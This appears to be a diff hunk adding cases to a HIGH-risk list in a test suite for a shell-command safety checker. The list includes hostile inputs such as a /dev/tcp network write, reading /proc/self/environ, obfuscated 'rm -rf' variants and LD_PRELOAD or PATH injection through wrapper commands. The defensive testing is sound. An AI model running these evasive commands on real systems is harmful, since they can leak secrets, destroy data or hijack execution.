@@ -82,6 +82,7 @@ HIGH = [
     # values hidden in KEY=VALUE words and pagers
     "make CC=../evil", "git grep -O sh foo", "echo hi > /dev/tcp/1.2.3.4/80",
     "cat /proc/self/environ", "{rm,-rf,x}", 'rm -r""f x', "rm $'-rf' x",
+    "time PATH=/tmp ls", "time LD_PRELOAD=/x.so ls", "command X=1 ls",
 ]
 
 SAFE = [
